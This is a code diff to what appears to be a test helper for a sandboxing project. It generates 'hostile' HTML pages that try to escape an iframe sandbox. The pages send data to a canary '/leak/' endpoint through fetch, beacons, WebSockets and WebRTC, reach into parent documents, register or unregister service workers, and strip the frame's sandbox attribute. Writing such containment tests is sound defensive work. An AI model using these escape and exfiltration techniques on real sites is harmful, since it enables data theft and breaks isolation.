@@ -23,6 +23,16 @@ export const REFUSED = [
   'parent-document', 'parent-location', 'parent-global', 'top-document', 'fetch', 'fetch-no-cors', 'import-script',
 ]
 
+/** The same on an origin of its own, where it may keep what it likes and is told so. */
+export const REFUSED_ON_SITE = [
+  'top-document', 'above-document', 'clipboard', 'fetch', 'fetch-no-cors', 'import-script', 'xhr', 'websocket', 'open',
+  'shell-fetch', 'shell-socket', 'own-worker', 'own-worker-again', 'shell-worker', 'own-socket', 'app-fetch', 'neighbour-fetch',
+  'serviceWorker',
+]
+
+/** Navigations that only a site can try: of what is around it, which is of its own origin. */
+export const SITE_NAVIGATIONS = ['shell-location', 'shell-link', 'unsealed', 'neighbour', 'shell-word', 'unregistered']
+
 /** Navigations of the document itself, one file each. */
 export const NAVIGATIONS = ['location', 'meta-refresh', 'link-click', 'form-submit', 'top-location', 'history']
 
@@ -31,6 +41,13 @@ export function hostileFiles(canary) {
   const files = { 'index.html': everything(canary) }
   for (const way of NAVIGATIONS) files[`${way}.html`] = navigation(way, canary)
   return files
+}
+
+/** The same as a site, which tries what only a site can. */
+export function hostileSiteFiles(canary) {
+  const files = { ...hostileFiles(canary), 'index.html': everything(canary, { withCalls: false }) }
+  for (const way of [...SITE_NAVIGATIONS, 'calls']) files[`${way}.html`] = siteNavigation(way, canary)
+  return { ...files, 'folder/file.txt': 'words' }
 }
 
 /** All that needs no script to be tried; it works in markup alone. */
@@ -71,7 +88,7 @@ function markup(at) {
 `
 }
 
-function everything(canary) {
+function everything(canary, { withCalls = true } = {}) {
   const at = (channel) => `${canary.url}/leak/${channel}`
   return `<!doctype html>
 <html><head><meta charset="utf-8"><title>Hostile</title>
@@ -113,20 +130,7 @@ attempt('report', async () => {
   meta.content = "img-src 'none'; report-uri " + at('report')
   document.head.append(meta)
 })
-attempt('webrtc', async () => {
-  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${canary.udpPort}' }] })
-  connection.createDataChannel('leak')
-  const candidates = []
-  connection.onicecandidate = (e) => e.candidate && candidates.push(e.candidate.candidate)
-  await connection.setLocalDescription(await connection.createOffer())
-  if (connection.iceGatheringState !== 'complete') {
-    await Promise.race([
-      new Promise((r) => { connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && r() }),
-      new Promise((r) => setTimeout(r, 2000)),
-    ])
-  }
-  return candidates.length + ' candidates'
-})
+${withCalls ? calls(canary) : ''}
 attempt('webtransport', async () => { const t = new WebTransport('https://127.0.0.1:${canary.udpPort}/'); await t.ready; return 'open' })
 attempt('localStorage', async () => { localStorage.setItem('leak', '1'); return 'stored' })
 attempt('sessionStorage', async () => { sessionStorage.setItem('leak', '1'); return 'stored' })
@@ -141,6 +145,29 @@ attempt('parent-document', async () => parent.document.title)
 attempt('parent-location', async () => parent.location.href)
 attempt('parent-global', async () => { parent.pwned = true; return 'written' })
 attempt('top-document', async () => top.document.body.innerHTML.length)
+const onward = new URLSearchParams({ leak: '1' })
+const other = 'http://bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy.' + location.host.replace(/^[^.]*\\./, '')
+attempt('above-document', async () => parent.parent.document.title)
+attempt('shell-fetch', () => parent.fetch(at('shell-fetch'), { mode: 'no-cors' }))
+attempt('shell-beacon', async () => parent.navigator.sendBeacon(at('shell-beacon'), 'private'))
+attempt('shell-image', async () => { const image = new parent.Image(); image.src = at('shell-image'); return event(image, 'load', 'error') })
+attempt('shell-socket', () => event(new parent.WebSocket(at('shell-socket').replace('http', 'ws')), 'open', 'error'))
+attempt('own-worker', () => navigator.serviceWorker.register('/leak.js?' + onward))
+attempt('own-worker-again', () => navigator.serviceWorker.register('/.watchfire/worker.js?' + onward, { scope: '/leak/' }))
+attempt('shell-worker', () => parent.navigator.serviceWorker.register('/.watchfire/worker.js?' + onward, { scope: '/leak/' }))
+attempt('own-socket', () => event(new WebSocket('ws://' + location.host + '/leak'), 'open', 'error'))
+attempt('own-poll', () => fetch('/socket/longpoll?vsn=2.0.0').then((r) => r.status))
+attempt('app-fetch', () => fetch('http://localhost:' + location.port + '/limits'))
+attempt('neighbour-fetch', () => fetch(other, { mode: 'no-cors' }))
+attempt('shell-hints', async () => {
+  for (const [rel, host] of [['dns-prefetch', '${DNS_HOSTS[0]}'], ['preconnect', '${DNS_HOSTS[1]}']]) {
+    const link = parent.document.createElement('link')
+    link.rel = rel
+    link.href = 'http://' + host
+    parent.document.head.append(link)
+  }
+  return 'hinted'
+})
 attempt('download', async () => {
   const a = document.createElement('a')
   a.href = 'data:text/plain,leak'
@@ -173,6 +200,32 @@ Promise.all(tries).then(() => {
 </body></html>`
 }
 
+/** Tries to reach somebody by WebRTC. */
+function calls(canary) {
+  return `
+attempt('webrtc', async () => {
+  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${canary.udpPort}' }] })
+  connection.createDataChannel('leak')
+  const candidates = []
+  connection.onicecandidate = (e) => e.candidate && candidates.push(e.candidate.candidate)
+  await connection.setLocalDescription(await connection.createOffer())
+  if (connection.iceGatheringState !== 'complete') {
+    await Promise.race([
+      new Promise((r) => { connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && r() }),
+      new Promise((r) => setTimeout(r, 2000)),
+    ])
+  }
+  return candidates.length + ' candidates'
+})
+attempt('shell-webrtc', async () => {
+  const connection = new parent.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${canary.udpPort}' }] })
+  connection.createDataChannel('leak')
+  await connection.setLocalDescription(await connection.createOffer())
+  return 'offered'
+})
+`
+}
+
 function navigation(way, canary) {
   const to = `${canary.url}/leak/${way}`
   const head = '<!doctype html><meta charset="utf-8"><title>Hostile</title>'
@@ -190,6 +243,33 @@ function navigation(way, canary) {
     case 'history':
       return `${head}<p>going</p><script>location.replace('${to}'); navigation.navigate('${to}')</script>`
   }
+}
+
+function siteNavigation(way, canary) {
+  const to = `${canary.url}/leak/${way}`
+  const script = {
+    calls: `const tries = []
+      const attempt = (name, run) => tries.push(run().then(() => {}, () => {}))
+      ${calls(canary)}
+      Promise.all(tries).then(() => document.body.append('called'))`,
+    'shell-location': `parent.location = '${to}'`,
+    'shell-link': `const a = parent.document.createElement('a'); a.href = '${to}'; parent.document.body.append(a); a.click()`,
+    // Takes the seal off its own frame, and tries again in a new document.
+    unsealed: `const frame = parent.document.querySelector('iframe')
+      if (frame.sandbox.contains('allow-scripts') && !frame.hasAttribute('data-again')) {
+        frame.setAttribute('data-again', '')
+        frame.removeAttribute('sandbox')
+        location.reload()
+      } else { open('${to}'); try { top.location = '${to}' } catch {}; location = '${to}' }`,
+    neighbour: `location = 'http://bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy.localhost:' + location.port + '/?leak'`,
+    // Its worker away, nothing stands between the document and its own host.
+    unregistered: `navigator.serviceWorker.getRegistrations().then(async (all) => {
+      for (const one of all) await one.unregister()
+      location = '/leak?after=' + all.length
+    })`,
+    'shell-word': `parent.location = '/.watchfire/shell?leak'`,
+  }[way]
+  return `<!doctype html><meta charset="utf-8"><title>Hostile</title><p>going</p><a id="link" href="${to}">A link</a><script>${script}</script>`
 }
 
 /** Markdown with all that its authors may write in it and we must not show. */
